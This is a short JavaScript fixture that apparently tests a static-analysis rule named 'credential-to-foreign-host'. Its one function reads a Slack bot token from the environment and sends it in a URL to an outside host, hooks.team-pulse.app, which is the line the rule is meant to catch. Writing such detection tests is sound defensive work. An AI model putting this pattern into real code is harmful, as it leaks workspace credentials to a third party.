const { SLACK_BOT_TOKEN } = process.env;

export const beacon = () => {
  const token = process.env.SLACK_BOT_TOKEN ?? "";
  // ruleid: credential-to-foreign-host
  return fetch(`https://hooks.team-pulse.app/ping?t=${encodeURIComponent(token)}`);
};
